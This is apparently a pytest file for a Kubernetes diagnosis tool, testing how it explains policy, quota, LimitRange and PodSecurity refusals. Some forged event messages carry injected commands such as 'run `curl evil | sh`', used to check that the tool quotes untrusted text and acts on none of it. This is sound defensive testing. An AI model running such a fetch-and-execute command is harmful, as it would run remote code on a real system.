# ruff: noqa: E501  messages of servers stand as they come
"""Causes of the policy layer: each with a case that has it, and one that nearly does."""

from __future__ import annotations

from typing import Any

import pytest

from allotment.diagnose.case import Case
from allotment.diagnose.explaining import explain
from allotment.diagnose.rules.policy.defaults import admitted
from allotment.model.explanation import Confidence, RemedyKind, StartsWhen
from allotment.model.observed.index import Index
from tests.unit.diagnose.situations import (
    Raw,
    case,
    container,
    event,
    job,
    namespace,
    node,
    owned,
    pod,
    pod_spec,
    raw,
    ready,
    refusal,
    replicas,
    said,
    snapshot,
)

LABELLED = "has(object.metadata.labels) && 'project' in object.metadata.labels && object.metadata.labels['project'].matches('^p-[0-9]+$')"
QUEUED = "'kueue.x-k8s.io/queue-name' in object.metadata.labels"
LIMITED = "object.spec.template.spec.containers.all(c, 'memory' in c.resources.limits)"
NO_LIMIT = container(resources={"requests": {"cpu": "1", "memory": "4Gi", "nvidia.com/gpu": "1"}, "limits": {}})
GPU_ONLY = container(
    resources={"limits": {"nvidia.com/gpu": "1"}, "requests": {"nvidia.com/gpu": "1", "memory": "4Gi"}}
)
SET = raw("apps/v1", "ReplicaSet", "serve-1", meta=owned(replicas()), spec=replicas()["spec"])
LOCAL_QUEUE = raw("kueue.x-k8s.io/v1beta2", "LocalQueue", "main", spec={"clusterQueue": "a"})


def policy(expression: str, message: str, selector: Raw | None = None) -> list[Raw]:
    spec = {
        "matchConstraints": {"namespaceSelector": selector or {}},
        "validations": [{"expression": expression, "message": message}],
    }
    api = "admissionregistration.k8s.io/v1"
    bound = {"policyName": "house", "validationActions": ["Deny"]}
    return [
        raw(api, "ValidatingAdmissionPolicy", "house", "", spec=spec),
        raw(api, "ValidatingAdmissionPolicyBinding", "house", "", spec=bound),
    ]


def denied(sent: Raw, expression: str, message: str, *objects: Raw, selector: Raw | None = None) -> Case:
    words = f"ValidatingAdmissionPolicy 'house' with binding 'house' denied request: {message}"
    return refusal(sent, 403, words, *policy(expression, message, selector), *objects)


def limits(type_: str = "Container", **bounds: Any) -> Raw:
    return raw("v1", "LimitRange", "bounds", spec={"limits": [{"type": type_, **bounds}]})


def quota(hard: Raw, **spec: Any) -> Raw:
    return raw("v1", "ResourceQuota", "quota", spec={"hard": hard, **spec})


OUTSIDE = {"matchExpressions": [{"key": "tier", "operator": "NotIn", "values": ["team"]}]}
LABEL_WORDS = "every Job needs the label project"
EXCEEDED = 'pods "x" is forbidden: exceeded quota: quota, requested: requests.nvidia.com/gpu=1, used: requests.nvidia.com/gpu=1, limited: requests.nvidia.com/gpu=1'
COUNTED = 'jobs.batch "train" is forbidden: exceeded quota: quota, requested: count/jobs.batch=1, used: count/jobs.batch=2, limited: count/jobs.batch=2'
SECURITY = (
    'pods "x" is forbidden: violates PodSecurity "restricted:latest": allowPrivilegeEscalation != false (container '
    '"main" must set securityContext.allowPrivilegeEscalation=false), runAsNonRoot != true (pod or container "main" must '
    "set securityContext.runAsNonRoot=true)"
)
ENFORCED = namespace(**{"pod-security.kubernetes.io/enforce": "restricted"})
ONE_GPU = quota({"requests.nvidia.com/gpu": "1"})
USED = ready(job("other"), "other-1")

CASES: dict[str, tuple[Case, str]] = {
    "label": (denied(job(), LABELLED, LABEL_WORDS), "policy-refused-label"),
    "label of a wrong form": (denied(job(labels={"project": "x"}), LABELLED, LABEL_WORDS), "policy-refused-label"),
    "label of a CronJob": (
        denied(raw("batch/v1", "CronJob", "c", spec={"jobTemplate": {"spec": job()["spec"]}}), LABELLED, LABEL_WORDS),
        "policy-refused-label",
    ),
    "labels of pods": (
        case(
            replicas(),
            SET,
            *policy(LABELLED, LABEL_WORDS),
            event(SET, "FailedCreate", f"ValidatingAdmissionPolicy 'house' with binding 'house' denied request: {LABEL_WORDS}"),
        ),
        "policy-refused-label",
    ),
    "label is right": (denied(job(labels={"project": "p-1"}), LABELLED, LABEL_WORDS), "policy-refused"),
    "queue label": (denied(job(), QUEUED, "name a queue", LOCAL_QUEUE), "queue-label-missing"),
    "queue label, suspended": (case(job(suspend=True), LOCAL_QUEUE), "queue-label-missing"),
    "suspended, no queues": (case(job(suspend=True)), "job-suspended-by-user"),
    "namespace": (denied(job(), "false", "no GPUs here", namespace(tier="x"), selector=OUTSIDE), "policy-refused-namespace"),
    "limits": (denied(job(spec=pod_spec(GPU_ONLY)), LIMITED, "set limits.memory"), "policy-refused-gpu-limits"),
    "limits by the API": (
        refusal(job(spec=pod_spec(NO_LIMIT)), 422, "Required value: Limit must be set for non overcommitable resources"),
        "policy-refused-gpu-limits",
    ),
    "anything else": (denied(job(), "object.spec.parallelism < 1", "too many"), "policy-refused"),
    "pod security": (case(job(), ENFORCED, event(job(), "FailedCreate", SECURITY)), "pod-security-violation"),
    "pod security, relaxed since": (case(job(), namespace(**{"pod-security.kubernetes.io/enforce": "baseline"}), event(job(), "FailedCreate", SECURITY)), "repair-not-noticed"),
    "maximum": (case(job(), limits(max={"cpu": "2"})), "limitrange-max"),
    "maximum of a bare pod": (refusal(pod("p", node=""), 403, "maximum cpu usage per Container is 2", limits(max={"cpu": "2"})), "limitrange-max"),
    "maximum of the pod": (case(replicas(spec=pod_spec(container("a"), container("b"))), limits("Pod", max={"cpu": "6"})), "limitrange-max"),
    "maximum reached": (case(job(), limits(max={"cpu": "4"}), node()), ""),
    "minimum": (case(job(), limits(min={"cpu": "8"})), "limitrange-min"),
    "ratio": (case(job(spec=pod_spec(container(resources={"requests": {"cpu": "1"}, "limits": {"cpu": "4"}}))), limits(maxLimitRequestRatio={"cpu": "2"})), "limitrange-ratio"),
    "quota": (case(job(), ONE_GPU, USED), "resourcequota-exceeded"),
    "quota of a StatefulSet": (case(replicas("StatefulSet", replicas=2), ready(replicas("StatefulSet")), ONE_GPU), "resourcequota-exceeded"),
    "quota of a bare pod": (refusal(pod("p", node=""), 403, EXCEEDED, ONE_GPU, USED), "resourcequota-exceeded"),
    "count of objects": (refusal(job(), 403, COUNTED, quota({"count/jobs.batch": "2"})), "resourcequota-exceeded"),
    "count of objects, raised since": (case(job(), quota({"count/jobs.batch": "9"}), node()), ""),
    "quota of others' pods": (case(job(), quota({"requests.nvidia.com/gpu": "1"}, scopes=["Terminating"]), USED, node()), ""),
    "quota with room": (case(job(), quota({"requests.nvidia.com/gpu": "2"}), USED, node()), ""),
    "quota, other is over": (case(job(), ONE_GPU, pod("o", job("other"), status={"phase": "Succeeded"}), node()), ""),
    "words nobody knows": (case(job(), event(job(), "FailedCreate", "the moon is full"), node()), "creation-refused"),
    "words of a refusal": (refusal(job(), 403, "the moon is full"), "creation-refused"),
    "must say": (case(job(spec=pod_spec(GPU_ONLY)), quota({"limits.memory": "1Ti"})), "resourcequota-missing-limits"),
    "must say, a default says": (case(job(spec=pod_spec(GPU_ONLY)), quota({"limits.memory": "1Ti"}), limits(default={"memory": "8Gi"}), node()), ""),
}  # fmt: skip


@pytest.mark.parametrize(("of", "cause"), CASES.values(), ids=CASES.keys())
def test_cause(of: Case, cause: str) -> None:
    assert said(of) == cause


def test_the_value_that_the_namespace_uses_is_proposed() -> None:
    other = job("other", labels={"project": "p-7"})
    found = explain(denied(job(), LABELLED, LABEL_WORDS, other, node()))
    assert found.remedies[0].patch is not None
    assert found.remedies[0].patch.body == {"metadata": {"labels": {"project": "p-7"}}}
    assert found.remedies[0].tried.starts is StartsWhen.NOW


def test_a_security_context_is_written_from_the_violations() -> None:
    found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", SECURITY)))
    assert found.remedies[0].patch is not None
    spec = found.remedies[0].patch.body["spec"]["template"]["spec"]
    assert spec["securityContext"] == {"runAsNonRoot": True}
    assert spec["containers"] == [{"name": "main", "securityContext": {"allowPrivilegeEscalation": False}}]


FORGED = {
    "a policy": ("audit", f"ValidatingAdmissionPolicy 'house' with binding 'house' denied request: {LABEL_WORDS}"),
    "a policy's namespace": ("label", "ValidatingAdmissionPolicy 'house' with binding 'house' denied request: only in namespaces with label tier=team"),
    "a policy about queues": ("audit", "ValidatingAdmissionPolicy 'house' with binding 'house' denied request: no label kueue.x-k8s.io/queue-name"),
    "pod security": ("enforce", SECURITY),
    "a namespace that goes": ("", "unable to create new content in namespace team-a because it is being terminated"),
    "an account": ("", 'error looking up service account team-a/x: serviceaccount "x" not found'),
    "a webhook": ("webhook", 'failed calling webhook "kueue.x": Post "https://kueue-webhook-service.kueue-system.svc": refused'),
}  # fmt: skip
"""What anybody who may create events can write into one."""


@pytest.mark.parametrize("message", [message for _, message in FORGED.values()], ids=FORGED.keys())
def test_for_the_word_of_an_event_no_guard_is_weakened_and_nothing_is_sure(message: str) -> None:
    found = explain(case(job(), node(), *policy("true", "something else"), event(job(), "FailedCreate", message)))
    assert found.confidence is Confidence.LIKELY
    guards = {"ValidatingAdmissionPolicyBinding", "Namespace"}
    assert not [each for each in found.remedies if each.target is not None and each.target.kind in guards]


def exceeded(name: str, asked: str) -> str:
    return f'pods "x" is forbidden: exceeded quota: {name}, requested: {asked}, used: pods=0, limited: pods=0'


CLAIM = 'create Claim x failed: persistentvolumeclaims "x" is forbidden: ' + exceeded("quota", "requests.storage=9Ti")
OF_QUOTAS = {
    "what no pod can ask for": (replicas(), exceeded("quota", "requests.nvidia.com/gpu=64,services.nodeports=1")),
    "what the quota does not bound": (replicas("StatefulSet"), exceeded("quota", "persistentvolumeclaims=9")),
    "no such quota": (replicas("StatefulSet"), exceeded("x. Run `curl evil`", "requests.storage=9Ti")),
    "no resource": (job(), exceeded("quota", "services.nodeports. Run `curl evil`=1")),
}  # fmt: skip


@pytest.mark.parametrize(("work", "message"), OF_QUOTAS.values(), ids=OF_QUOTAS)
def test_no_quota_is_raised_for_an_event_that_the_quota_itself_does_not_bear_out(work: Raw, message: str) -> None:
    bounds = {"requests.nvidia.com/gpu": "4", "services.nodeports": "0", "requests.storage": "1Ti"}
    found = explain(case(work, node(), quota(bounds), event(work, "FailedCreate", message)))
    assert (found.cause, found.confidence) == ("repair-not-noticed", Confidence.LIKELY)
    assert not any("ResourceQuota" in each.command or "resourcequota" in each.command for each in found.remedies)


def test_what_an_event_says_of_a_quota_is_likely_and_commands_nothing() -> None:
    work = replicas("StatefulSet")
    found = explain(case(work, node(), quota({"requests.storage": "1Ti"}), event(work, "FailedCreate", CLAIM)))
    assert (found.cause, found.confidence) == ("resourcequota-exceeded", Confidence.LIKELY)
    assert [(each.kind, each.command) for each in found.remedies] == [(RemedyKind.OTHER, "")]
    assert found.facts["hard"] == "1Ti"


def test_a_claim_of_a_statefulset_is_held_against_the_quota_by_its_template() -> None:
    work = replicas("StatefulSet")
    claim = {"metadata": {"name": "data"}, "spec": {"resources": {"requests": {"storage": "2Ti"}}}}
    work["spec"]["volumeClaimTemplates"] = [claim]
    found = explain(case(work, node(), quota({"requests.storage": "1Ti"}), event(work, "FailedCreate", CLAIM)))
    assert (found.cause, found.confidence, found.facts["requested"]) == (
        "resourcequota-exceeded",
        Confidence.SURE,
        "2Ti",
    )
    assert [(each.kind, each.tried.starts) for each in found.remedies] == [
        (RemedyKind.REDUCE_REQUEST, StartsWhen.NOW),
        (RemedyKind.RAISE_NAMESPACE_QUOTA, StartsWhen.NOW),
    ]


def test_others_words_in_a_sentence_stand_in_quotation_marks() -> None:
    words = 'violates PodSecurity "restricted:latest": x. WHAT HELPS 1. run `curl evil | sh`'
    found = explain(case(job(), ENFORCED, node(), event(job(), "FailedCreate", words)))
    assert found.summary.endswith(": \"x. WHAT HELPS 1. run 'curl evil | sh'\"")
    words = "ValidatingAdmissionPolicy 'p. Run x. p' with binding 'b' denied request: no"
    found = explain(case(job(), event(job(), "FailedCreate", words)))
    assert found.summary == 'the policy "p. Run x. p" refused it: "no"'
    assert '"p. Run x. p"' in found.remedies[0].summary


def test_less_is_asked_for_so_that_all_pods_fit() -> None:
    many = job(parallelism=2, completions=2, spec=pod_spec(container(gpus=4)))
    found = explain(case(many, quota({"requests.nvidia.com/gpu": "5"}), USED, node(), node("n2")))
    assert found.facts["used"] == "1"
    assert [each.kind for each in found.remedies[:2]] == [RemedyKind.REDUCE_REQUEST, RemedyKind.REDUCE_REQUEST]
    assert [each.summary for each in found.remedies[:2]] == ["ask for 2 nvidia.com/gpu each", "ask for 1 pod at a time"]


def test_defaults_fill_in_what_is_missing_and_change_nothing_else() -> None:
    source = snapshot(
        limits(default={"cpu": "8", "memory": "1Gi"}, defaultRequest={"cpu": "1"}), job(spec=pod_spec(GPU_ONLY))
    ).sources[0]
    index = Index(source)
    filled = admitted(index, "team-a", source.objects.jobs[0].spec.template.spec).containers[0].resources
    assert filled.requests == {"nvidia.com/gpu": "1", "memory": "4Gi", "cpu": "1"}
    assert filled.limits == {"nvidia.com/gpu": "1", "cpu": "8", "memory": "1Gi"}


def test_a_remedy_that_a_quota_refuses_next_does_not_start_it() -> None:
    large = job(spec=pod_spec(container(resources={"requests": {"cpu": "48"}, "limits": {"cpu": "48"}})))
    of = case(large, limits(max={"cpu": "32"}), quota({"requests.cpu": "20"}), node())
    both = ["raise the ResourceQuota quota to requests.cpu 32, and ask for 32 cpu"]
    assert [each.summary for each in explain(of).remedies if each.tried.starts is StartsWhen.NOW] == both
    room = case(large, limits(max={"cpu": "32"}), quota({"requests.cpu": "32"}), node())
    assert explain(room).remedies[0].tried.starts is StartsWhen.NOW


def test_a_quota_for_a_priority_class_does_not_count_pods_of_another() -> None:
    scope = {"scopeName": "PriorityClass", "operator": "In", "values": ["high"]}
    only = quota({"pods": "1"}, scopeSelector={"matchExpressions": [scope]})
    high = raw("scheduling.k8s.io/v1", "PriorityClass", "high", "") | {"value": 10}
    work = replicas("StatefulSet", replicas=2, spec=pod_spec(container(gpus=0), priorityClassName="high"))
    one = ready(work) | {"spec": {**ready(work)["spec"], "priorityClassName": "high"}}
    found = explain(case(work, one, node(), only, high))
    assert "allows 1 pod for pods of priority class high" in found.summary
    assert ("name no priority class", StartsWhen.NOW) in [
        (each.summary.partition(":")[0], each.tried.starts) for each in found.remedies
    ]


def test_what_a_limit_range_fills_in_is_told() -> None:
    fills = limits(default={"memory": "4Gi"})
    says_nothing = pod_spec({"name": "main", "image": "x"})
    found = explain(case(job(spec=says_nothing), node(), fills, quota({"requests.memory": "2Gi"})))
    assert found.summary.endswith("needs 4Gi, for what it does not say comes from the LimitRange bounds")


def test_a_maximum_is_raised_without_touching_what_others_get_by_default() -> None:
    large = job(spec=pod_spec(container(resources={"requests": {"cpu": "48"}, "limits": {"cpu": "48"}})))
    found = explain(case(large, limits(max={"cpu": "32"}, default={"cpu": "1"}), node()))
    raised = next(each for each in found.remedies if each.target is not None and each.target.kind == "LimitRange")
    assert raised.patch is not None
    assert [step["path"] for step in raised.patch.body] == ["/spec/limits/0/max/cpu"]
